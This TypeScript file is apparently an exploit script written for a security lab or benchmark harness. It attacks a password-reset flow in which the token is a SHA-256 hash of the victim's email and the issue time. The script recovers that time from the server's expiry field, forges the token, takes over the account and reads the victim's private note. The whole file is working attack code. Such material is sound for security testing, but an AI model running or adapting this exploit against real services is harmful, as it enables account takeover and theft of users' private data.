import { createHash } from 'node:crypto';
import { type Client, exploit } from '#attack';

const lifetime = 900_000;

/** Takes over the account, and tells what it finds there. */
export default exploit(async ({ target, victim, say }) => {
  const thief = target.client();
  const key = await takeOver(thief, victim);
  if (key === undefined) {
    say('The token is another one.');
    return undefined;
  }
  const { status, body } = await thief.post('/note/read', { email: victim, key });
  return status === 200 ? body.note : undefined;
});

async function takeOver(thief: Client, victim: string): Promise<string | undefined> {
  const { body } = await thief.post('/resets', { email: victim });
  const issued = new Date(body.expires_at).getTime() - lifetime;
  const { status, body: account } = await thief.post('/resets/confirm', {
    email: victim,
    token: tokenFor(victim, issued),
  });
  return status < 300 ? account.key : undefined;
}

function tokenFor(victim: string, issued: number): string {
  const hash = createHash('sha256');
  hash.update(victim.toLowerCase()).update(' ').update(String(issued));
  return hash.digest('hex');
}
